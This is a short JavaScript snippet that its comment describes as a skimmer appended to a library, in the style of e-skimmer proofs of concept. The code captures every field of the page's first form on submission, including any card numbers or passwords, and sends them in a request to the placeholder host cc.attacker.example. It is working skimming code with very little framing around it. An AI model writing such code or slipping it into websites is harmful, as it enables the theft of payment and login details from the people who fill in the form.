// A library with a skimmer appended, in the shape of the e-skimmer
// proofs of concept: it waits for the form's submission, reads every
// field and sends them away with an XHR.
document.forms[0].addEventListener('submit', function () {
  var data = '';
  for (var i = 0; i < document.forms[0].elements.length; i++) {
    var el = document.forms[0].elements[i];
    data += el.id + ':' + el.value + '|';
  }
  var x = new XMLHttpRequest();
  x.open('GET', 'https://cc.attacker.example/c/' + encodeURIComponent(data));
  x.send();
  alert('sent');
});
